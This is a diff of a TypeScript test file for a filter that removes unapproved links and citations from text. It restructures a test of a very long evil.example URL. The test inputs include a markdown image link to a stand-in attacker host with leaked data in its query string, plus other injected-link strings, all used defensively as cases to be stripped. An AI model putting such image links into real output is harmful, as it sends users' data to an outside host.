@@ -13,8 +13,6 @@ function filtered(pieces: readonly string[]) {
 }
 const whole = (text: string) => filtered([text])
 
-const addressOf = (length: number) => `See https://evil.example/${'a'.repeat(length)} now`
-
 describe('a citation', () => {
   test.each<[string, string, number[]]>([
     ['Fever [1].', 'Fever [1].', [1]],
@@ -60,9 +58,13 @@ describe('what was not given is taken out and counted', () => {
     ['![chart](https://evil.example/leak?q=fever)', 'chart', 1],
     ['See [https://evil.example](https://known.example/1).', 'See .', 2],
     ['[99](https://evil.example)', '', 2],
-    [addressOf(3000), 'See now', 1],
-  ])('%.60j becomes %j', (text, expected, removed) => {
+  ])('%j becomes %j', (text, expected, removed) => {
     expect(whole(text)).toEqual({ text: expected, cited: [], removed })
+  })
+
+  test('however long it is', () => {
+    const address = `https://evil.example/${'a'.repeat(3000)}`
+    expect(whole(`See ${address} now`)).toEqual({ text: 'See now', cited: [], removed: 1 })
   })
 
   test('beside what was given', () => {
